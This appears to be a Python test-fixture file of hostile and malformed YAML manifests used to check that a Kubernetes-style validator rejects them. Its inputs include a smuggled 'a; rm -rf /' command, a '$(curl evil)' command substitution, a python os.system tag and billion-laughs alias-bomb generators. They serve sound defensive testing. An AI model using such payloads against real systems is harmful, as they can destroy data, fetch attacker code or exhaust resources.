"""Hostile manifests: what an attacker or a careless script feeds `kvpilot validate`, `render` and
`slo rules`.  Each case is raw bytes plus what must come out: `valid` (exit 0) or the words the one
clear error must carry.

Classes: alias bombs, deep nesting, size, encodings, YAML oddities (tags, duplicate keys, bad
timestamps, huge integers, recursive and undefined aliases), wrong types where the CRD has strict
ones, quantities, names, image references, byte counts, objectives, many documents and many errors.
"""

from __future__ import annotations

from dataclasses import dataclass

from kvpilot.api.documents import MAX_BYTES, MAX_DOCUMENTS, MAX_STREAM_NODES

HEAD = "apiVersion: kvpilot.dev/v1alpha1\nkind: InferenceService\nmetadata: {name: svc, namespace: ml}\n"


@dataclass(frozen=True)
class Case:
    id: str
    data: bytes
    expect: str | tuple[str, ...]  # "valid", or a phrase the error output must contain (one of several)
    # Commands the case runs through.
    commands: tuple[str, ...] = ("validate", "render", "slo-rules")


def _spec(body: str) -> bytes:
    return (HEAD + "spec:\n" + body).encode()


def _bomb(levels: int, fan: int, where: str = "model") -> bytes:
    lines = [HEAD.rstrip("\n"), 'a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * fan) + "]")
    lines.append(f"spec: {{{where}: *a{levels - 1}}}")
    return ("\n".join(lines) + "\n").encode()


def _many_docs(n: int) -> bytes:
    return "---\n".join(
        f"apiVersion: kvpilot.dev/v1alpha1\nkind: InferenceService\nmetadata: {{name: s{i}}}\n"
        "spec: {model: m, replicas: 2}\n"
        for i in range(n)
    ).encode()


def _fill(unit: bytes) -> bytes:
    """`unit` repeated to fill the size limit."""
    return unit * (MAX_BYTES // len(unit))


def _minimal_services(n: int) -> bytes:
    return "---\n".join(
        f"apiVersion: kvpilot.dev/v1alpha1\nkind: InferenceService\nmetadata: {{name: s{i}}}\nspec: {{model: m}}\n"
        for i in range(n)
    ).encode()


def _values_across_documents(n: int, values: int) -> bytes:
    """n documents of `values` values each, every one under the per-document limit."""
    return "---\n".join(HEAD.replace("name: svc", f"name: s{i}") + "spec: {model: m}\nx: [" + ",".join(["1"] * values)
                        + "]\n" for i in range(n)).encode()


def _aliases_across_documents(n: int) -> bytes:
    """n documents that each expand an alias to 9,000 values."""
    doc = (HEAD + 'a0: &a0 ["x","x","x","x","x","x","x","x","x"]\n' + "a1: &a1 [" + ",".join(["*a0"] * 10) + "]\n"
           + "a2: &a2 [" + ",".join(["*a1"] * 10) + "]\n" + "a3: &a3 [" + ",".join(["*a2"] * 10) + "]\n"
           + "spec: {model: m}\n")
    return "---\n".join(doc.replace("name: svc", f"name: s{i}") for i in range(n)).encode()


CASES: list[Case] = [
    # --- the stream as a whole (each document in it within every per-document limit)
    Case("449k-empty-documents", _fill(b"{}\n---\n"), f"more than {MAX_DOCUMENTS} YAML documents"),
    Case("786k-document-markers", _fill(b"---\n"), f"more than {MAX_DOCUMENTS} YAML documents"),
    Case("29k-minimal-services", _minimal_services(29_501), f"more than {MAX_DOCUMENTS} YAML documents"),
    Case("a-thousand-and-one-documents", _many_docs(MAX_DOCUMENTS + 1), f"more than {MAX_DOCUMENTS} YAML documents"),
    Case("values-across-documents", _values_across_documents(15, 99_000),
         f"more than {MAX_STREAM_NODES} values across its documents"),
    Case("aliases-across-documents", _aliases_across_documents(30),
         f"more than {MAX_STREAM_NODES} values across its documents"),
    Case("a-thousand-services-rendered", _many_docs(MAX_DOCUMENTS), "valid", commands=("render", "slo-rules")),

    # --- alias expansion
    Case("billion-laughs-565b", _bomb(9, 9), "aliases expanded"),
    Case("billion-laughs-465b", _bomb(8, 9), "aliases expanded"),
    Case("alias-bomb-in-metadata", _bomb(9, 9, "x").replace(b"spec: {x:", b"spec: {model: m}\nstatus: {x:"),
         "aliases expanded"),
    Case("alias-wide-fan", (HEAD + "a: &a [" + ",".join(["x"] * 400) + "]\nb: &b [" + ",".join(["*a"] * 400)
                           + "]\nspec: {model: m}\n").encode(), "aliases expanded"),
    Case("alias-recursive", (HEAD + "spec: &s {model: m, engine: *s}\n").encode(), "contains it"),
    Case("alias-recursive-list", (HEAD + "spec: {model: m, engine: {extraArgs: &l [a, *l]}}\n").encode(),
         "contains it"),
    Case("alias-undefined", (HEAD + "spec: {model: *nothing}\n").encode(), "undefined alias"),
    Case("alias-small-is-fine", (HEAD + "spec:\n  model: &m meta-llama/Llama-3.1-8B\n  servedModelName: *m\n"
                                 "  replicas: 2\n").encode(), "valid"),
    Case("merge-key-is-fine", _spec("  model: m\n  replicas: 2\n  engine: {<<: {maxNumSeqs: 64}, maxNumBatchedTokens: 128}\n"),
         "valid"),
    # --- depth
    Case("deep-flow-500", _spec("  model: m\n  engine: " + "[" * 500 + "]" * 500 + "\n"), "nested more than"),
    Case("deep-flow-100k", _spec("  model: m\n  engine: " + "[" * 100_000 + "\n"), "nesting depth"),
    Case("deep-block-maps", _spec("  model: m\n" + "".join("  " * (i + 1) + f"k{i}:\n" for i in range(200))),
         "nested more than"),
    Case("deep-mapping-flow", _spec("  model: m\n  engine: " + "{a: " * 300 + "1" + "}" * 300 + "\n"),
         "nested more than"),
    Case("deep-but-allowed", _spec("  model: m\n  engine: {extraArgs: " + "[" * 40 + "]" * 40 + "}\n"),
         "extraArgs"),
    # --- size
    Case("too-large", _spec("  model: m\n") + b"# " + b"x" * (MAX_BYTES + 10) + b"\n", "larger than 3 MiB"),
    Case("long-string-value", _spec("  model: " + "m" * 1_000_000 + "\n"), "at most 512 characters"),
    Case("long-key", _spec("  model: m\n  " + "k" * 500_000 + ": 1\n"), "not valid YAML"),
    Case("many-values", _spec("  model: m\n  engine:\n    extraArgs:\n" + "    - --x\n" * 150_000),
         "more than 100000 values"),
    Case("many-list-items-int", _spec("  model: m\n  engine: {extraArgs: [" + ",".join(["1"] * 5000) + "]}\n"),
         "at most 256 items"),
    Case("thousand-documents", _many_docs(1000), "valid", commands=("validate",)),
    Case("two-hundred-documents", _many_docs(200), "valid"),
    Case("one-megabyte-of-annotations", (
        "apiVersion: kvpilot.dev/v1alpha1\nkind: InferenceService\nmetadata:\n  name: svc\n  annotations:\n"
        + "".join(f"    example.com/a{i}: {'v' * 1000}\n" for i in range(1000))
        + "spec: {model: m, replicas: 2}\n").encode(), "valid"),
    Case("hundreds-of-unknown-fields", _spec("  model: m\n" + "".join(f"  f{i}: {i}\n" for i in range(300))),
         "more problems"),
    Case("thousand-documents-one-bad", _many_docs(999) + b"---\n" + _spec("  model: m\n  replicas: '3'\n"),
         "valid integer"),
    # --- encodings
    Case("latin-1", (HEAD + 'spec: {model: "caf\xe9"}\n').encode("latin-1"), "not UTF-8"),
    Case("invalid-utf8-start", b"\xff\xfe\xfd" + _spec("  model: m\n"), "not UTF-8"),
    Case("utf8-bom-is-fine", b"\xef\xbb\xbf" + _spec("  model: m\n  replicas: 2\n"), "valid"),
    Case("utf16", _spec("  model: m\n").decode().encode("utf-16"), "not UTF-8"),
    Case("nul-byte", _spec("  model: m\x00\n"), "not valid YAML"),
    Case("control-char", _spec("  model: m\x07\n"), "not valid YAML"),
    Case("overlong-utf8", _spec("  model: \xc0\xaf\n".encode("latin-1").decode("latin-1")).replace(
        b"\xc3\x80\xc2\xaf", b"\xc0\xaf"), "not UTF-8"),
    Case("lone-surrogate-escape", _spec('  model: "\\ud800"\n'), "not valid YAML"),
    Case("truncated-utf8", _spec("  model: m\n")[:-1] + b"\xe2\x82", "not UTF-8"),
    # --- YAML oddities
    Case("python-tag", _spec("  model: !!python/object/apply:os.system ['true']\n"), "not valid YAML"),
    Case("unknown-tag", _spec("  model: !secret m\n"), "not valid YAML"),
    Case("binary-tag-bad", _spec("  model: !!binary '%%%'\n"), "valid string"),
    Case("timestamp-invalid", _spec("  model: 2001-13-45\n"), "cannot read this value"),
    Case("timestamp-valid-wrong-type", _spec("  model: 2001-12-14\n"), "valid string"),
    Case("int-5000-digits", _spec("  replicas: " + "9" * 5000 + "\n  model: m\n"), "cannot read this value"),
    Case("int-hex-huge", _spec("  replicas: 0x" + "f" * 3000 + "\n  model: m\n"), "less than or equal to 1000"),
    Case("float-inf", _spec("  model: m\n  slo: {objective: .inf}\n"), "objective"),
    Case("float-nan", _spec("  model: m\n  slo: {objective: .nan}\n"), "objective"),
    Case("duplicate-key", _spec("  model: m\n  model: n\n"), "duplicate key"),
    Case("duplicate-top-key", (HEAD + "spec: {model: m}\nspec: {model: n}\n").encode(), "duplicate key"),
    Case("complex-key", _spec("  ? [a, b]\n  : c\n  model: m\n"), "not valid YAML"),
    Case("tabs", _spec("\tmodel: m\n"), "not valid YAML"),
    Case("unclosed-flow", _spec("  model: [m\n"), "not valid YAML"),
    Case("root-list", b"- a\n- b\n", "must be a mapping"),
    Case("root-scalar", b"hello\n", "must be a mapping"),
    Case("empty", b"", ("no YAML document", "no InferenceService found")),
    Case("only-comments", b"# nothing\n---\n# more\n", ("no YAML document", "no InferenceService found")),
    Case("wrong-kind", b"apiVersion: v1\nkind: Secret\nmetadata: {name: x}\n", ("must be", "no InferenceService found")),
    Case("non-string-keys", _spec("  model: m\n  1: 2\n  null: 3\n"), "Keys should be strings"),
    # --- strict types
    Case("replicas-string", _spec("  model: m\n  replicas: '3'\n"), "valid integer"),
    Case("replicas-float", _spec("  model: m\n  replicas: 3.5\n"), "valid integer"),
    Case("replicas-bool", _spec("  model: m\n  replicas: true\n"), "valid integer"),
    Case("model-int", _spec("  model: 5\n"), "valid string"),
    Case("allow-downtime-string", _spec("  model: m\n  rollout: {allowDowntime: 'yes'}\n"), "valid boolean"),
    Case("block-size-string", _spec("  model: m\n  engine: {blockSize: '16'}\n"), "blockSize"),
    Case("extra-args-map", _spec("  model: m\n  engine: {extraArgs: {a: b}}\n"), "valid list"),
    # --- quantities
    Case("quantity-dot", _spec("  model: m\n  resources: {memory: '.'}\n"), "Kubernetes quantity"),
    Case("quantity-1GGGG", _spec("  model: m\n  resources: {memory: 1GGGG}\n"), "Kubernetes quantity"),
    Case("quantity-negative", _spec("  model: m\n  resources: {memory: -1Gi}\n"), "positive"),
    Case("quantity-zero", _spec("  model: m\n  resources: {shmSize: '0'}\n"), "positive"),
    Case("quantity-millibytes", _spec("  model: m\n  resources: {memory: 64m}\n"), "whole number of bytes"),
    Case("quantity-huge", _spec("  model: m\n  resources: {memory: 1e300}\n"), "at most 1Pi"),
    Case("quantity-exponent-fraction", _spec("  model: m\n  resources: {memory: 1e1.5}\n"), "Kubernetes quantity"),
    Case("quantity-int-not-string", _spec("  model: m\n  resources: {memory: 1073741824}\n"), "valid string"),
    Case("cpu-zero", _spec("  model: m\n  resources: {cpu: '0'}\n"), "at least 1m"),
    Case("cpu-fine", _spec("  model: m\n  replicas: 2\n  resources: {cpu: 500m, memory: 1.5Gi}\n"), "valid"),
    # --- names and references
    Case("secret-name-upper", _spec("  model: m\n  hfTokenSecret: {name: HF_Token}\n"), "DNS-1123"),
    Case("secret-name-injection", _spec("  model: m\n  hfTokenSecret: {name: 'a; rm -rf /'}\n"), "DNS-1123"),
    Case("secret-key-space", _spec("  model: m\n  hfTokenSecret: {name: hf, key: 'a b'}\n"), "Secret key"),
    Case("gpu-resource-bare", _spec("  model: m\n  resources: {gpuResource: gpu}\n"), "extended resource"),
    Case("gpu-resource-kubernetes-io", _spec("  model: m\n  resources: {gpuResource: kubernetes.io/gpu}\n"),
         "kubernetes.io"),
    Case("gpu-resource-spaces", _spec("  model: m\n  resources: {gpuResource: 'nvidia.com/ gpu'}\n"),
         "extended resource"),
    Case("image-space", _spec("  model: m\n  engine: {image: 'vllm/vllm openai'}\n"), "image reference"),
    Case("image-command-substitution", _spec("  model: m\n  engine: {image: '$(curl evil)'}\n"),
         "image reference"),
    Case("image-uppercase", _spec("  model: m\n  engine: {image: 'vllm/VLLM:latest'}\n"), "image reference"),
    Case("image-digest-short", _spec("  model: m\n  engine: {image: 'vllm/vllm@sha256:abc'}\n"), "image reference"),
    Case("image-fine", _spec("  model: m\n  replicas: 2\n  engine: {image: 'registry.local:5000/ml/vllm:v0.33.0'}\n"),
         "valid"),
    Case("metadata-name-bad", (HEAD.replace("name: svc", "name: Svc_1") + "spec: {model: m}\n").encode(), "pattern"),
    # --- byte counts and objectives
    Case("kv-bytes-huge", _spec("  model: m\n  engine: {kvCacheMemoryBytes: 1180591620717411303424}\n"),
         "less than or equal"),
    Case("kv-bytes-zero", _spec("  model: m\n  engine: {kvCacheMemoryBytes: 0}\n"), "greater than or equal"),
    Case("objective-rounds-to-one", _spec("  model: m\n  slo: {objective: 0.99999999999999}\n"), "0.999999"),
    Case("objective-one", _spec("  model: m\n  slo: {objective: 1}\n"), "0.999999"),
    Case("objective-negative", _spec("  model: m\n  slo: {objective: -0.5}\n"), "greater than 0"),
    Case("period-huge", _spec("  model: m\n  slo: {period: 99999999999999999999d}\n"), "pattern"),
    Case("extra-arg-long", _spec("  model: m\n  engine: {extraArgs: ['--x=" + "y" * 10_000 + "']}\n"),
         "at most 4096"),
]
